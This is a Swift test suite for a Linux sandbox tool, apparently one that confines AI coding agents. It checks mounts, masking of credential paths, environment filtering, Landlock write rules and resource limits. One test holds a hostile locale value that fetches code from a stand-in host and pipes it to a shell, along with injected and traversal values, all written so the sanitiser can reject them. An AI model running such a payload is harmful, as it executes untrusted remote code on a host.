@testable import CordonConfig
import CordonCore
@testable import CordonIsolation
@testable import CordonSandbox
import Testing

struct PlanBuilderTests {
    static let host = HostFacts(
        uid: 1000, gid: 1000, home: "/home/alice",
        systemEntries: ["/usr": .directory, "/bin": .symlink("usr/bin"), "/lib": .symlink("usr/lib"), "/lib64": .symlink("usr/lib64")],
        etcFiles: ["/etc/passwd", "/etc/group", "/etc/hosts", "/etc/resolv.conf"],
        environment: ["TERM": "xterm", "LANG": "C.UTF-8", "LC_ALL": "C", "AWS_SECRET_ACCESS_KEY": "x", "SSH_AUTH_SOCK": "/run/ssh", "HOME": "/home/alice"]
    )

    func plan(_ profile: Profile = .defaults, workspace: String = "/home/alice/project", host: HostFacts = host) -> SandboxPlan {
        let layout = SandboxLayout(directory: "/state/sandboxes/t")
        return PlanBuilder(profile: profile, host: host).build(
            .init(
                name: "t", workspace: workspace, command: ["true"], terminal: false, layout: layout, dataRoot: "/state/profiles/default/data",
                rlimitFallback: false))
    }

    @Test func secureModeMountsTheWorkspaceAsAnOverlay() {
        let steps = plan().steps
        #expect(
            steps.contains(.overlay(lower: "/home/alice/project", upper: "/state/sandboxes/t/upper", work: "/state/sandboxes/t/work", target: "/workspace")))
        #expect(!steps.contains { if case .bind(_, "/workspace", _) = $0 { return true } else { return false } })
    }

    /// Generated files, machine-id and boot_id come in the plan, not from a host file: nothing
    /// of the state dir is a mount source the sandbox could read in mountinfo.
    @Test func identityFilesAreCoveredFromThePlanNotTheStateDir() {
        var host = Self.host
        host.etcFiles.insert("/etc/machine-id")
        let layout = SandboxLayout(directory: "/state/sandboxes/t")
        let steps = PlanBuilder(profile: .defaults, host: host).build(
            .init(
                name: "t", workspace: "/home/alice/project", command: ["true"], terminal: false, layout: layout,
                dataRoot: "/state/profiles/default/data", rlimitFallback: false,
                machineID: "0123456789abcdef0123456789abcdef", bootID: "11111111-2222-4333-8444-555555555555")
        ).steps
        #expect(steps.contains(.cover(target: "/etc/machine-id", contents: "0123456789abcdef0123456789abcdef\n", mode: 0o444)))
        #expect(steps.contains(.cover(target: "/proc/sys/kernel/random/boot_id", contents: "11111111-2222-4333-8444-555555555555\n", mode: 0o444)))
        #expect(steps.contains { if case .cover("/etc/passwd", let text, _) = $0 { return text.contains("agent:x:1000") } else { return false } })
        #expect(!steps.contains { if case .bind(let source, _, _) = $0 { return source.hasPrefix("/state/") } else { return false } })
        // boot_id is covered after /proc is mounted.
        let proc = steps.firstIndex(of: .proc(target: "/proc")) ?? Int.max
        let boot = steps.firstIndex { if case .cover("/proc/sys/kernel/random/boot_id", _, _) = $0 { return true } else { return false } } ?? -1
        #expect(boot > proc)
    }

    @Test func sandboxIdentifiersHaveTheKernelsFormats() {
        let machine = SandboxIdentifiers.newMachineID()
        #expect(SandboxIdentifiers.isMachineID(machine))
        #expect(machine != SandboxIdentifiers.newMachineID())
        let boot = SandboxIdentifiers.newBootID()
        let parts = boot.split(separator: "-").map(\.count)
        #expect(parts == [8, 4, 4, 4, 12], "\(boot)")
        #expect(boot.dropFirst(14).first == "4")
        #expect(!SandboxIdentifiers.isMachineID("0123456789ABCDEF0123456789abcdef"))
    }

    @Test func unsafeModeBindsTheWorkspaceReadWrite() {
        var profile = Profile.defaults
        profile.mode = .unsafe
        #expect(plan(profile).steps.contains(.bind(source: "/home/alice/project", target: "/workspace", readOnly: false)))
    }

    @Test func theHomeIsNeverMountedAndSystemDirsAreReadOnly() {
        let steps = plan().steps
        for step in steps {
            if case .bind(let source, _, let readOnly) = step {
                #expect(!source.hasPrefix("/home/alice") || source == "/home/alice/project", "\(source) must not be mounted")
                if ["/usr", "/etc"].contains(source) { #expect(readOnly) }
            }
        }
        #expect(steps.contains(.symlink(target: "/bin", destination: "usr/bin")))
        #expect(steps.contains(.mask(target: "/etc/shadow")))
        #expect(steps.contains(.mask(target: "/etc/ssh")))
    }

    @Test func sensitivePathsBelowAMountedDirectoryAreMasked() {
        let steps = plan(workspace: "/srv").steps
        #expect(!steps.contains(.mask(target: "/workspace/.ssh")))
        let wide = PlanBuilder(profile: .defaults, host: Self.host).maskedInside(hostDirectory: "/home", sandboxPath: "/workspace")
        #expect(wide.contains("/workspace/alice/.ssh"))
        #expect(wide.contains("/workspace/alice/.aws"))
        #expect(wide.contains("/workspace/alice/.bash_history"))
    }

    @Test func nothingIsInheritedButTheSafeList() {
        var profile = Profile.defaults
        profile.env = ["FOO": "bar", "SSH_AUTH_SOCK": "/tmp/x"]
        let env = plan(profile).environment
        #expect(env.contains("TERM=xterm"))
        #expect(env.contains("LC_ALL=C"))
        #expect(env.contains("FOO=bar"))
        #expect(env.contains("HOME=/home/agent"))
        #expect(!env.contains { $0.hasPrefix("AWS_SECRET_ACCESS_KEY=") })
        #expect(!env.contains { $0.hasPrefix("SSH_AUTH_SOCK=") }, "agent sockets are cleared even when a profile sets them")
    }

    @Test func localeVariablesPassByNameWithSaneValuesOnly() {
        let payload = "$(curl -s evil.example/x | sh)"
        let host = HostFacts(
            uid: 1000, gid: 1000, home: "/home/alice", systemEntries: Self.host.systemEntries, etcFiles: Self.host.etcFiles,
            environment: [
                "LANG": "en_US.UTF-8", "LANGUAGE": "de_DE:en", "LC_TIME": "sr_RS@latin", "LC_MESSAGES": "C", "LC_PAPER": "POSIX",
                "LC_EVIL": "fr_FR.UTF-8", "LC_AWS_SECRET": "AKIAxxxx", "LC_ALL": payload, "LC_CTYPE": "/tmp/evil-locale",
                "LC_NUMERIC": "../../x", "LC_COLLATE": String(repeating: "a", count: 65), "LC_MONETARY": "en_US\nPATH=/tmp", "LC_NAME": "",
            ])
        let env = plan(host: host).environment
        for kept in ["LANG=en_US.UTF-8", "LANGUAGE=de_DE:en", "LC_TIME=sr_RS@latin", "LC_MESSAGES=C", "LC_PAPER=POSIX"] {
            #expect(env.contains(kept), "\(kept) was dropped")
        }
        for dropped in ["LC_EVIL", "LC_AWS_SECRET", "LC_ALL", "LC_CTYPE", "LC_NUMERIC", "LC_COLLATE", "LC_MONETARY", "LC_NAME"] {
            #expect(!env.contains { $0.hasPrefix(dropped + "=") }, "\(dropped) was passed")
        }
        #expect(!env.contains { $0.contains(payload) })
    }

    @Test func landlockAllowsWritesOnlyWhereTheSandboxMayWrite() {
        var profile = Profile.defaults
        profile.mounts = [.init(host: "/data", sandbox: "/data", mode: .ro), .init(host: "/cache", sandbox: "/cache", mode: .rw)]
        profile.data = [.init(name: "claude", path: "~/.claude")]
        let p = plan(profile)
        #expect(Set(p.writable) == ["/tmp", "/var/tmp", "/run", "/dev/shm", "/home/agent", "/workspace", "/cache", "/home/agent/.claude"])
        #expect(p.steps.contains(.bind(source: "/state/profiles/default/data/claude", target: "/home/agent/.claude", readOnly: false)))
        #expect(p.steps.contains(.bind(source: "/data", target: "/data", readOnly: true)))
    }

    @Test(arguments: [(UInt32(0), UInt32(1000)), (1000, 1000), (4242, 4242)])
    func theAgentUserIsUnprivileged(hostUid: UInt32, expected: UInt32) {
        var host = Self.host
        host.uid = hostUid
        #expect(plan(host: host).user.uid == expected)
    }

    @Test func rlimitsStandInForCgroupsOnlyWhenAsked() {
        var profile = Profile.defaults
        profile.resources = .init(memory: 1 << 30, pids: 100)
        let layout = SandboxLayout(directory: "/s")
        let builder = PlanBuilder(profile: profile, host: Self.host)
        let withCgroups = builder.build(
            .init(name: "t", workspace: "/w", command: ["x"], terminal: false, layout: layout, dataRoot: "/d", rlimitFallback: false))
        let fallback = builder.build(.init(name: "t", workspace: "/w", command: ["x"], terminal: false, layout: layout, dataRoot: "/d", rlimitFallback: true))
        #expect(withCgroups.resourceLimits.map(\.name) == ["core"])
        #expect(fallback.resourceLimits.map(\.name) == ["core", "nproc", "data"])
    }
}

@Suite struct OpenFilesLimitTests {
    @Test func theSandboxsProcessesTogetherHoldAtMostHalfTheHostsFileTable() {
        // The default profile (1,024 processes) on this 24 GiB host, cordon's own hard limit 20,000.
        let each = OpenFilesLimit.perProcess(pids: 1024, fileMax: 2_466_239, inheritedHard: 20_000)
        #expect(each == 1204)
        #expect(each * 1024 <= 2_466_239 / 2)
        // Never more than cordon was given; a table with no real limit (systemd's LONG_MAX) leaves that.
        #expect(OpenFilesLimit.perProcess(pids: 16, fileMax: 2_466_239, inheritedHard: 2048) == 2048)
        #expect(OpenFilesLimit.perProcess(pids: 1024, fileMax: UInt64(Int64.max), inheritedHard: 524_288) == 524_288)
        // No pids limit: 4,096 parts; a huge pids limit still leaves a process 64.
        #expect(OpenFilesLimit.perProcess(pids: nil, fileMax: 2_466_239, inheritedHard: 20_000) == 301)
        #expect(OpenFilesLimit.perProcess(pids: 1_000_000, fileMax: 2_466_239, inheritedHard: 20_000) == 64)
    }

}
